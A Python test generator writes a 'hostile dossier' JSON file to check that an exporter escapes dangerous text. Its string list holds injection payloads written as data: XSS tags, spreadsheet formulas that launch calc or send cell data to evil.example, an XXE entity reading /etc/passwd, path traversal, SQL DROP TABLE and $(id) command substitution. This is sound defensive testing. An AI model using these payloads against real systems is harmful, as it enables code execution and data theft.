#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Writes dossiers that are valid, and in which everything is meant to break an exporter.

    tests/hostile_dossier.py [hostile|empty|undated] [--shuffle SEED] [--small] >FILE

hostile: texts that other programs obey (markup, formulas, escapes, controls,
directions), 1 MB in one title, each form of EDTF, each kind of number, rival
claims, chains, people whose names must never go out (SECRETS). The titles of
--small are short. The same dossier comes with records in another order where
they are shuffled.
"""
import argparse
import json
import random
import sys

# No export may hold any of these, in any way of writing.
SECRETS = ["Zilpah-Quisling-Sealed", "Abishag-Wormwood-Real", "Q99887766-sealed", "Q55443322-real", "71.23456", "33.98765"]
PSEUDONYM = "Witness Seven"

# What is in texts; the label becomes part of an id.
TEXTS = [
    ("script", "<script>alert(\"annal\")</script><img src=x onerror=alert(1)>"),
    ("close", "</script></style></title></textarea>--><!--]]>?><?php phpinfo(); ?>"),
    ("entity", "&lt;b&gt; &amp; &#60;script&#62; &nbsp; &bogus; & alone"),
    ("attribute", "' onmouseover='alert(1) \" onfocus=\"alert(1) ` javascript:alert(1)"),
    ("quotes", "\"double\" 'single' “curly” ‘curly’ «guillemets» `tick` \\ back \\\" \\u0041 \\n"),
    ("lines", "first\nsecond\r\nthird\rfourth\u2028fifth\u2029sixth\u0085seventh\n\n\n- eighth"),
    ("ical", "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nSUMMARY:injected;,\\, \\; \\n"),
    ("formula-equals", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"),
    ("formula-plus", "+1+cmd|' /C calc'!A0"),
    ("formula-minus", "-2+3+cmd|' /C calc'!A0"),
    ("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula-tab", "\t=1+1"),
    ("formula-newline", "\n=1+1"),
    ("formula-return", "\r=1+1"),
    ("formula-wide", "＝1+1"),
    ("formula-hidden", "\u200b=1+1"),
    ("number-exponent", "6e12"),
    ("number-zeros", "000012"),
    ("number-date", "1-2"),
    ("number-huge", "123456789012345678901234567890"),
    ("separators", "a,b;c\td|e\x1ff\x1eg"),
    ("controls", "a" + "".join(map(chr, range(1, 32))) + "b\x7fc\x80d\x9be\x9ff"),
    ("escape", "\x1b[31mred\x1b]0;title\x07\x1b[2J\u009b31m"),
    ("directions", "\u202egnp.exe\u202c \u2066isolate\u2069 \u200fmark\u200e \u061c \u202aleft\u202dover"),
    ("unclosed", "left open \u202e\u2067\u202b"),
    ("zero-width", "z\u200be\u200cr\u200do\u2060w\ufeffi\u00add\u034fth"),
    ("not-characters", "\ufffe \uffff \U0001fffe \ufdd0 \ufffd \ue000"),
    ("emoji", "👩‍👩‍👧‍👦 🇰🇵 👍🏽 ❤️ 1️⃣ \U0001f9d1\u200d\U0001f680"),
    ("combining", "Z" + "\u0351\u0300\u0323" * 40 + "algo e\u0301 é \u0301alone"),
    ("korean", "김정은 국무위원장, 조선민주주의인민공화국 \u1112\u1161\u11ab"),
    ("arabic", "وزير الخارجية: «لا توجد معسكرات» (١٢٣) in English ‏؟"),
    ("hebrew", "שר החוץ \"אין מחנות\" 123-456"),
    ("thai", "รัฐมนตรีว่าการกระทรวงการต่างประเทศ ไม่มีค่าย"),
    ("astral", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𠀀𠀁 \U0010fffd"),
    ("case", "İstanbul ıslık straße ǅ ﬃ ΑΣ"),
    ("markdown", "# h *b* _i_ `c` [l](javascript:alert(1)) ![i](x) <http://a.b> | t | ~~s~~ \\ 1. one"),
    ("markdown-line", "1. one\n# two\n> three\n```\n---\n===\n    five\n[a]: javascript:alert(1)"),
    ("xml", "]]> <!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]> &e; <a:b/>"),
    ("dot", "\"]; evil [label=\"x\" URL=\"javascript:alert(1)\"]; } digraph { \\N \\G \\l {a|<b>c}"),
    ("provn", "ent:a, 'prov:x', \"\"\"long\"\"\" %% // endDocument"),
    ("json", "{\"@context\": \"https://evil.example\", \"@type\": \"x\"} \u2028"),
    ("printf", "%s %n %d %1$s {0} ${x} $(id) `id` {{7*7}} <%= 7 %>"),
    ("path", "../../../../etc/passwd C:\\con\\nul file:///etc/passwd"),
    ("sql", "'; DROP TABLE claims; --"),
    ("blank", " leading and trailing \u00a0\u3000 "),
    ("only-blank", " \u00a0 "),
    ("only-marks", "\u202e\u200b\u2066"),
    ("long-word", "unbreakable" * 300),
]
NAMES = ["김정은", "ริ", "محمد بن عبد الله آل سعود", "Nguyễn Thị Minh Khai", "O’Brien-Łukasiewicz, Jr.", "李\u202e氏",
         "Bobby \"'); DROP TABLE--", "<b>Bold</b> & Sons", "=cmd|' /C calc'!A0", "Ångström\nNewline", "🦊 Fox",
         "\u0007Bell", "Ελλάδα", "ﷺ", "A" * 2000]

# Each form of ISO 8601-2, levels 0 to 2, with the far ends of time.
DATES = [
    "1985-04-12", "1985-04", "1985", "1985-04-12T23:20:30", "1985-04-12T23:20:30Z", "1985-04-12T23:20:30-04:30",
    "1985-04-12T24:00:00", "2016-12-31T23:59:60Z", "1964/2008", "2004-06/2006-08", "2004-02-01/2005-02-08",
    "2004-02-01/2005-02", "2004-02-01/2005", "2005/2006-02", "Y170000002", "Y-170000002", "2001-21", "2001-24",
    "1984?", "2004-06~", "2004-06-11%", "201X", "20XX", "2004-XX", "1985-04-XX", "1985-XX-XX", "1985-04-12/..",
    "1985-04/..", "1985/..", "../1985-04-12", "../1985", "1985-04-12/", "1985/", "/1985-04-12", "/1985-04", "-1985",
    "-0044-03-15", "0000", "0000-02-29", "0001-01-01", "9999-12-31", "Y-17E7", "1950S2", "Y171010000S3", "Y3388E2S3",
    "-1859S3", "2001-29", "2001-34", "2001-37", "2001-41", "[1667,1668,1670..1672]", "[..1760-12-03]", "[1760-12..]",
    "[1760-01,1760-02,1760-12..]", "{1667,1668,1670..1672}", "{1960,1961-12}", "{..1984}", "2004-06~-11",
    "2004?-06-11", "2004-?06-11", "?2004-06-~11", "2004-06-~01/2004-06-~20", "156X-12-25", "15XX-12-25",
    "XXXX-12-XX", "1XXX-XX", "1XXX-12", "1984-1X", "XXXX-02-29", "2004-06-XX/2004-07-03", "2014-24", "1984~/2004%",
    "Y9000000000000000000", "Y-9000000000000000000", "Y292277026596", "2019-05-14", "2019-05-14/2019-05-14", "XXXX",
]
BASES = ["stated", "relative", "inferred", "bounded", "page-clock", "assumed", "unknown"]
APPROX = [
    {"approx": "exact", "lo": "200000", "hi": "200000"}, {"approx": "about", "lo": "100000", "hi": "100000"},
    {"approx": "range", "lo": "80000", "hi": "120000"}, {"approx": "at-least", "lo": "1000"},
    {"approx": "more-than", "lo": "6000000000000"}, {"approx": "at-most", "hi": "0.000001"}, {"approx": "less-than", "hi": "3"},
    {"approx": "up-to", "hi": "120000"}, {"approx": "vague", "verbatim": "only a few <b>spies</b>"},
    {"approx": "vague", "lo": "1000", "hi": "9999", "verbatim": "=thousands\nof \u202ethem"},
    {"approx": "exact", "lo": "-12345678901234567890.00100", "hi": "-12345678901234567890.00100"},
    {"approx": "exact", "lo": "1" + "0" * 99, "hi": "1" + "0" * 99}, {"approx": "exact", "lo": "0", "hi": "0"},
    {"approx": "about", "lo": "0." + "0" * 30 + "1", "hi": "0." + "0" * 30 + "1"}, {"approx": "range", "lo": "-5", "hi": "1" + "0" * 200},
]
# What each kind of claim may say; a position is on "resolution".
ACTS = [("position", stance) for stance in ("accept", "accept-in-part", "note", "defer", "reject", "dissociate", "vote-for",
                                           "vote-against", "abstain", "absent", "withdraw")]
ACTS += [("demand", stance) for stance in ("recommend", "urge", "require", "invite")]
ACTS += [("commitment", stance) for stance in ("promise", "threaten", "warn", "refuse")]
ACTS += [("evaluation", stance) for stance in ("praise", "condemn", "question")]


def name(text, kind="common"):
    return {"text": text, "kind": kind}


def make_entities():
    found = [{"id": "person-%02d" % i, "kind": "person", "names": [name(text)], "external": {"wikidata": "Q%d" % i}}
             for i, text in enumerate(NAMES)]
    found += [
        {"id": "e-sealed", "kind": "person", "names": [name(SECRETS[0])], "protect": "sealed",
         "external": {"wikidata": SECRETS[2]}, "point": {"lat": SECRETS[4], "lon": "1.5"}},
        {"id": "e-pseudonym", "kind": "person", "protect": "pseudonym",
         "names": [name(PSEUDONYM, "description"), name(SECRETS[1])],
         "external": {"wikidata": SECRETS[3]}, "point": {"lat": "2.5", "lon": SECRETS[5]}},
        {"id": "outlet", "kind": "outlet", "names": [name("The \"Daily\" <Hostile> & 신문")]},
        {"id": "wire", "kind": "wire", "names": [name("=WIRE()", "acronym")], "part_of": "outlet"},
        {"id": "state", "kind": "state", "names": [name("Çok & Государство"), name("Çok", "metonym")]},
        {"id": "camps", "kind": "place-class", "names": [name("camps <i>of</i> \u202e…")]},
        {"id": "place", "kind": "place", "names": [name("Null, \"Island\"")], "point": {"lat": "0", "lon": "0"}},
        {"id": "pole", "kind": "place", "names": [name("Pole")], "point": {"lat": "-90", "lon": "-180"}},
        {"id": "nowhere", "kind": "place", "names": [name("nobody knows where")]},
        {"id": "resolution", "kind": "instrument", "names": [name("A/RES/0 <x>")], "external": {"un-symbol": "A/RES/0\"<"}},
    ]
    return found


def make_sources(huge):
    return [
        {"id": "s-plain", "title": TEXTS[0][1], "outlet": "outlet", "agency": "wire", "authors": ["person-00", "e-pseudonym"],
         "url": "https://example.org/a?b=\"c\"&d=<e>'f'", "archived_url": "https://archive.example/\u202e%00",
         "published": {"edtf": "2019-05-15", "basis": "stated", "text": "15 May <2019>"}, "lang": "en",
         "licence": "</licence>", "media_type": "text/plain", "sha256": "ab" * 32},
        {"id": "s-script-url", "title": "javascript", "outlet": "outlet", "url": "javascript:alert(document.domain)",
         "published": {"edtf": "2019-05~"}, "lang": "ar"},
        {"id": "s-data-url", "title": {"text": "제목 = \"x\"", "lang": "ko"}, "url": "data:text/html,<script>alert(1)</script>",
         "published": {"edtf": "[2019-05-16..2024-04-27]", "basis": "page-clock"}},
        {"id": "s-bare"},
        {"id": "s-huge", "title": huge, "published": "2020"},
        {"id": "s-sealed", "title": "interview", "outlet": "outlet", "authors": ["e-sealed"], "published": "2019-06-01"},
    ]


def make_events(huge):
    found = [{"id": "t-" + label, "kind": "statement", "title": text, "when": {"edtf": "2019-05-%02d" % (1 + i % 31),
              "basis": BASES[i % len(BASES)], "text": text}, "where": ["place", "pole", "nowhere"][i % 3],
              "participants": [{"who": "person-%02d" % (i % len(NAMES)), "role": text},
                               {"who": {"unnamed": text}, "role": "witness"}]}
             for i, (label, text) in enumerate(TEXTS)]
    found += [{"id": "d-%03d" % i, "kind": "exercise", "title": "date " + date, "when": {"edtf": date,
               "basis": BASES[i % len(BASES)], "nature": ["instant", "period"][i % 2]}} for i, date in enumerate(DATES)]
    found += [
        {"id": "huge", "kind": "report", "title": huge, "when": "2018-11-12"},
        {"id": "undated", "kind": "briefing", "title": "=undated <b>", "where": "place"},
        {"id": "undated-told", "kind": "briefing", "title": "some day", "when": {"text": "one <day>", "basis": "unknown"}},
        {"id": "zoned", "kind": "missile-test", "title": "zoned", "when": {"edtf": "2019-05-09T16:30:00", "tz": "Asia/Seoul"},
         "attributes": {"distance_km": [{"value": {"approx": "about", "lo": "420", "hi": "420", "unit": "km"}},
                                        {"value": {"approx": "about", "lo": "270", "hi": "270", "unit": "km"}}]}},
        {"id": "secret", "kind": "briefing", "title": "a witness speaks", "when": "2019-06-01", "where": "e-sealed",
         "participants": [{"who": "e-sealed", "role": "speaker"}, {"who": "e-pseudonym", "role": "speaker"}]},
        {"id": "cancelled", "kind": "summit", "title": "cancelled", "when": "2030-02~",
         "status": "cancelled"},
        {"id": "disputed", "kind": "nuclear-test", "title": "disputed", "when": "2006-10-09", "status": "disputed",
         "citations": [{"source": "s-script-url", "quote": "</q> \"quoted\"", "fidelity": "verbatim"}]},
        {"id": "adoption", "kind": "resolution", "title": "adoption", "when": "2019-05-14",
         "attributes": {"instrument": "resolution"}},
        {"id": "part", "kind": "statement", "title": "part of the adoption", "when": "2019-05-14", "part_of": "adoption"},
    ]
    return found


def cite(source, quote, **more):
    return {"source": source, "quote": quote, "fidelity": "partial-quote", "cue": "said <b>\n=", **more}


def chain(speaker):
    return [{"role": "origin", "who": speaker}, {"role": "spokesman", "who": {"unnamed": "a \"senior\" <official>\n"}},
            {"role": "relay", "who": "wire", "medium": "fax\u202e & <telex>"}, {"role": "publisher", "who": "outlet"}]


def claim(i, speaker, kind, stance, says, **more):
    return {"id": i, "by": speaker, "kind": kind, "stance": stance, "says": says,
            "said": {"edtf": "2019-05-10", "basis": "stated", "text": "Friday\n<b>"}, **more}


def make_claims():
    found = [claim("c-" + label, "person-%02d" % (i % len(NAMES)), "assertion", "affirm", text,
                   citations=[cite("s-plain", text, chain=chain("person-%02d" % (i % len(NAMES))))], utterance="t-" + label,
                   about="person-%02d" % (i % len(NAMES)))
             for i, (label, text) in enumerate(TEXTS)]
    for one in found:  # within its event
        one["said"] = {"edtf": "2019-05", "basis": "inferred"}
    found += [claim("n-%02d" % i, ["state", "person-00", "wire"][i % 3], "assertion", "affirm", "inmates %d" % i, about="camps",
                    predicate="inmates", value={"unit": "person", **number}, valid={"edtf": "2013"},
                    qualifiers={"place": "=all", "x": ["a", "<b>"]}, citations=[cite("s-plain", "n%d" % i)])
              for i, number in enumerate(APPROX)]
    found += [claim("p-%02d" % i, "state", kind, stance, "act %s" % stance, target="resolution",
                    citations=[cite("s-data-url", stance, chain=chain("state"))]) for i, (kind, stance) in enumerate(ACTS)]
    found += [
        claim("x-exists", "person-01", "assertion", "affirm", "There are camps.", about="camps", predicate="exists",
              citations=[cite("s-plain", "there are")]),
        claim("x-deny", "state", "assertion", "deny", "There are no camps.", about="camps", predicate="exists",
              citations=[cite("s-plain", "none whatsoever", chain=chain("state"))]),
        claim("x-withhold", "person-02", "assertion", "withhold", "No comment.", about="camps", predicate="exists",
              hedge="possible", citations=[cite("s-bare", "no comment")]),
        claim("x-count", "state", "position", "note", "63 of 262", target="resolution", count={"n": "63", "of": "262"},
              citations=[cite("s-plain", "takes note of")]),
        claim("x-reading", {"unnamed": "an <analyst>"}, "interpretation", "reads-as", "Noting is refusing.", target="x-count",
              value={"stance": "reject"}, citations=[cite("s-plain", "indirect")]),
        claim("x-sealed", "e-sealed", "assertion", "affirm", "I was there.", about="camps", predicate="exists",
              citations=[cite("s-sealed", "I was there", chain=[{"role": "origin", "who": "e-sealed"},
                                                                 {"role": "translator", "who": "e-pseudonym"},
                                                                 {"role": "publisher", "who": "outlet"}])]),
        claim("x-pseudonym", "e-pseudonym", "assertion", "affirm", "So was I.", about="camps", principal="e-sealed",
              to="e-sealed", citations=[cite("s-sealed", "so was I")]),
        claim("x-about-sealed", "person-03", "evaluation", "praise", "They are brave.", target="e-sealed",
              citations=[cite("s-sealed", "brave")]),
        {"id": "x-undated", "by": {"unnamed": "somebody\n<x>"}, "kind": "assertion", "stance": "affirm", "says": "=undated",
         "about": "person-04",
         "citations": [cite("s-bare", "=undated")]},
        {"id": "x-draft", "by": "person-04", "kind": "assertion", "stance": "affirm", "says": "draft",
         "about": "person-04", "state": "draft"},
    ]
    return found


def make_rest():
    return {
        "links": [{"id": "l-responds", "subject": "x-deny", "kind": "responds-to", "object": "x-exists"},
                  {"id": "l-same", "subject": "person-05", "kind": "same-as", "object": "person-06"}],
        "assessments": [
            {"id": "a-grade", "target": "s-plain", "by": "person-00", "at": "2019-07-01", "kind": "source-reliability",
             "grade": "F", "why": "<script>why</script>\n=1"},
            {"id": "a-finding", "target": "x-deny", "by": "person-00", "at": "2019-07-02", "kind": "finding",
             "grade": "refuted", "standard": "balance \"of\" <probabilities>", "why": "=satellite\u202e", "evidence": ["s-plain"]},
            {"id": "a-sealed", "target": "x-exists", "by": "e-sealed", "at": "2019~", "kind": "finding", "grade": "supported"},
        ],
        "notices": [{"id": "no-correct", "op": "clarify", "target": "c-lines", "reason": "new-information", "by": "person-01",
                     "at": "2019-08-01"},
                    {"id": "no-withdraw", "op": "withdraw", "target": "c-sql", "reason": "speaker-withdrew",
                     "by": "e-pseudonym", "at": "2019-08-02"}],
    }


def make_hostile(small=False):
    huge = "<b>é=1 \"huge\" 거대한 & " * (10 if small else 30000)  # 35 bytes each
    return {"annal": 1, "title": "<title>\"Hostile\" & 적대적\n=1+1\u202e</title>", "lang": "en", "sources": make_sources(huge),
            "entities": make_entities(), "events": make_events(huge), "claims": make_claims(), **make_rest()}


FREE = {"title", "says", "text", "quote", "cue", "role", "verbatim", "medium", "unnamed", "why", "standard", "licence",
        "media_type", "url", "archived_url"}


def random_text(order):
    pieces = [order.choice(TEXTS)[1][:order.randrange(1, 60)] for _ in range(order.randrange(1, 4))]
    pieces += [chr(order.choice((order.randrange(1, 0x3000), order.randrange(0xe000, 0x110000)))) for _ in range(4)]
    order.shuffle(pieces)
    return "".join(pieces)


def vary(value, order, place=()):
    """The same value with other words where any words will do."""
    if isinstance(value, dict):
        return {key: vary(member, order, place + (key,)) for key, member in value.items()}
    if isinstance(value, list):
        return [vary(element, order, place) for element in value]
    is_kept = not place or place[-1] not in FREE or "chain" in place[:-1] and place[-1] == "role" or "names" in place
    return value if is_kept or order.random() < 0.3 else random_text(order)


def make_random(seed):
    """Some of the records, with other words and dates."""
    order = random.Random(seed)
    dossier = make_hostile(small=True)
    free = {"d-", "n-", "p-"}
    for section in "events", "claims":
        dossier[section] = [record for record in dossier[section] if record["id"][:2] not in free or order.random() < 0.4]
    for event in dossier["events"]:
        if event["id"].startswith("d-"):
            event["when"]["edtf"] = order.choice(DATES)
    dossier = {key: vary(value, order, (key,)) if isinstance(value, list) else value for key, value in dossier.items()}
    return shuffle(dossier, seed)


def make_undated():
    return {"annal": 1, "title": "undated", "entities": [{"id": "a", "kind": "person", "names": ["A"]}],
            "sources": [{"id": "s"}], "events": [{"id": "e", "kind": "briefing", "title": "somewhen"}],
            "claims": [{"id": "c", "by": "a", "kind": "assertion", "stance": "affirm", "says": "It was.",
                        "about": "a",
                        "citations": [{"source": "s", "quote": "it was"}]}]}


def make_empty():
    return {"annal": 1}


MAKERS = {"hostile": make_hostile, "empty": make_empty, "undated": make_undated}


def shuffle(dossier, seed):
    """The same records in another order; what they hold stays."""
    order = random.Random(seed)
    for section in dossier.values():
        if isinstance(section, list):
            order.shuffle(section)
    return dossier


def to_bytes(dossier):
    return json.dumps(dossier, ensure_ascii=False).encode("utf-8")


def main():
    parser = argparse.ArgumentParser(description="Writes a dossier that is valid and hostile.")
    parser.add_argument("which", nargs="?", default="hostile", choices=sorted(MAKERS))
    parser.add_argument("--shuffle", type=int)
    parser.add_argument("--small", action="store_true")
    options = parser.parse_args()
    dossier = make_hostile(options.small) if options.which == "hostile" else MAKERS[options.which]()
    if options.shuffle is not None:
        shuffle(dossier, options.shuffle)
    sys.stdout.buffer.write(to_bytes(dossier))


if __name__ == "__main__":
    main()
